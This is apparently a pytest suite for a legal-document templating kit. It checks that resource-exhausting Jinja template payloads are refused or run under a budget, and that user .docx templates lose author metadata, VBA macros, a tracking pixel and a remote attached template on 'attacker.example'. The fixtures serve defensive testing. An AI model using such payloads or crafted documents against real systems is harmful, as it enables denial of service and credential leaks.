"""Templates are programs: what one may compute is bounded (summons_kit.documents.limits), a user's template
renders under a CPU, memory and time budget in a child process (summons_kit.documents.budget), and the linter
fails every template the draft would fail. Every test here is fast: a bound refuses before the work is done."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from conftest import write_docx

from summons_kit.documents import budget as budgets
from summons_kit.documents.budget import Budget
from summons_kit.documents.catalog import template_path
from summons_kit.documents.lint import example_context, lint_template
from summons_kit.documents.render import TemplateError, load_template, render_bytes

#: a small budget, so that running out of it is quick
SMALL = Budget(cpu_seconds=1, memory_mb=64, wall_seconds=10)

BEYOND_LIMITS = [
    "{{ 9**999999999 }}",
    "{{ 'x' * 10**9 }}",
    "{{ [0] * 10**9 }}",
    "{{ 'x'.center(10**9) }}",
    "{{ 'x'.zfill(10**9) }}",
    "{{ 'x'|center(10**9) }}",
    "{{ 'x'|indent(10**9) }}",
    "{{ '%999999999d' % 1 }}",
    "{{ '%*d' % (999999999, 1) }}",
    "{{ '%999999999d'|format(1) }}",
    "{{ '{:999999999}'.format(1) }}",
    "{{ '{0:>999999999}'.format(1) }}",
    "{{ lipsum(1000000) }}",
    "{{ [1]|slice(10**9)|list|length }}",
]


@pytest.mark.parametrize("tag", BEYOND_LIMITS)
def test_a_computation_beyond_the_limits_is_refused_at_once(tmp_path: Path, tag: str) -> None:
    path = write_docx(tmp_path / "t.docx", "法院：{{ court.name }}", tag)
    start = time.monotonic()
    load_template(path)  # compiling folds no constant: {{ 9**999999999 }} does not hang here
    with pytest.raises(TemplateError, match="beyond the kit's limits") as caught:
        render_bytes(path, example_context())
    assert caught.value.tag == tag and caught.value.kind == "limit"
    report = lint_template(path)
    assert [(p.kind, p.tag) for p in report.problems] == [("limit", tag)], report.format()
    assert time.monotonic() - start < 10


@pytest.mark.parametrize(
    "tag", ["{{ 2**64 }}", "{{ '-' * 20 }}", "{{ '%05.1f' % 2.25 }}", "{{ '{:>4}'.format(7) }}", "{{ 'a'|center(9) }}"]
)
def test_ordinary_arithmetic_and_formatting_still_work(tmp_path: Path, tag: str) -> None:
    import io

    import docx

    from summons_kit.documents.tags import ENV

    path = write_docx(tmp_path / "t.docx", tag)
    text = docx.Document(io.BytesIO(render_bytes(path, example_context()))).paragraphs[0].text
    assert text == ENV.from_string(tag).render()
    assert lint_template(path).ok


NESTED = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
GROWING = "{% set xs = [] %}{% for i in range(100000) %}{% set _ = xs.append('y' * 1000000) %}{% endfor %}"


@pytest.mark.skipif(not budgets.can_isolate(), reason="no fork: templates render in-process, bounded by limits")
@pytest.mark.parametrize(("body", "limit"), [(NESTED, "longer than its budget"), (GROWING, "more memory")])
def test_a_user_template_renders_under_a_budget(tmp_path: Path, body: str, limit: str) -> None:
    path = write_docx(tmp_path / "t.docx", "{{ court.name }}", body)
    start = time.monotonic()
    with pytest.raises(TemplateError, match=limit) as caught:
        render_bytes(path, example_context(), budget=SMALL)
    assert caught.value.kind == "budget"
    report = lint_template(path, budget=SMALL)
    assert [p.kind for p in report.problems] == ["budget"] and limit in report.format()
    assert time.monotonic() - start < 15


@pytest.mark.skipif(not budgets.can_isolate(), reason="no fork")
def test_built_in_templates_render_in_process_and_user_templates_do_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    children: list[Path] = []

    def counted(work, budget):  # type: ignore[no-untyped-def]
        children.append(Path())
        return work()

    monkeypatch.setattr(budgets, "run", counted)
    render_bytes(template_path("evidence"), example_context())
    assert children == []
    copy = tmp_path / "evidence.docx"
    copy.write_bytes(template_path("evidence").read_bytes())
    render_bytes(copy, example_context())
    assert len(children) == 1


@pytest.mark.skipif(not budgets.can_isolate(), reason="no fork")
def test_an_error_in_the_child_comes_back_whole(tmp_path: Path) -> None:
    path = write_docx(tmp_path / "t.docx", "法院：{{ court.nmae }}")
    with pytest.raises(TemplateError) as caught:
        render_bytes(path, example_context())
    assert caught.value.variable == "court.nmae" and caught.value.tag == "{{ court.nmae }}"
    assert caught.value.template == str(path.resolve()) and "court.name" in str(caught.value)


# --- what a user's template does not pass on ----------------------------------------------------------------


def _rewrite(path: Path, changes: dict[str, bytes]) -> None:
    import zipfile

    with zipfile.ZipFile(path) as source:
        members = {i.filename: source.read(i) for i in source.infolist()}
    members.update(changes)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in members.items():
            target.writestr(name, data)


def _personal_template(tmp_path: Path) -> Path:
    import zipfile

    import docx

    path = tmp_path / "firm.docx"
    document = docx.Document()
    document.add_paragraph("法院：{{ court.name }}")
    document.core_properties.author = "王律师"
    document.core_properties.last_modified_by = "李助理"
    document.save(str(path))
    with zipfile.ZipFile(path) as package:
        types = package.read("[Content_Types].xml").decode()
        rels = package.read("word/_rels/document.xml.rels").decode()
        settings = package.read("word/settings.xml").decode()
    macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", macro_main
    ).replace(
        "</Types>",
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>'
        '<Relationship Id="rIdPic" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="http://tracker.example/pixel.png" TargetMode="External"/>'
        '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'hyperlink" Target="https://court.example/" TargetMode="External"/></Relationships>',
    )
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1)
    if "xmlns:r=" not in settings[: settings.index(">", settings.index("<w:settings"))]:
        settings = settings.replace(
            "<w:settings ",
            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
            1,
        )
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="file://attacker.example/share/t.dotm" TargetMode="External"/></Relationships>'
    )
    _rewrite(
        path,
        {
            "[Content_Types].xml": types.encode(),
            "word/_rels/document.xml.rels": rels.encode(),
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": settings_rels.encode(),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
        },
    )
    return path


def test_a_draft_on_a_user_template_drops_personal_metadata_macros_and_external_links(tmp_path: Path) -> None:
    import io
    import zipfile

    import docx

    path = _personal_template(tmp_path)
    data = render_bytes(path, example_context())
    out = zipfile.ZipFile(io.BytesIO(data))
    names = out.namelist()
    assert "word/vbaProject.bin" not in names
    everything = b"".join(out.read(n) for n in names if n.endswith((".xml", ".rels"))).decode()
    for gone in (
        "王律师",
        "李助理",
        "vbaProject",
        "macroEnabled",
        "tracker.example",
        "attacker.example",
        "attachedTemplate",
    ):
        assert gone not in everything, gone
    assert "https://court.example/" in everything, "hyperlinks stay"
    document = docx.Document(io.BytesIO(data))
    assert document.paragraphs[0].text == f"法院：{example_context()['court']['name']}"
    assert document.core_properties.author == "" and document.core_properties.last_modified_by == ""


def test_built_in_templates_are_used_as_they_are() -> None:
    import io
    import zipfile

    path = template_path("evidence")
    out = zipfile.ZipFile(io.BytesIO(render_bytes(path, example_context())))
    assert out.read("docProps/core.xml") == zipfile.ZipFile(path).read("docProps/core.xml")
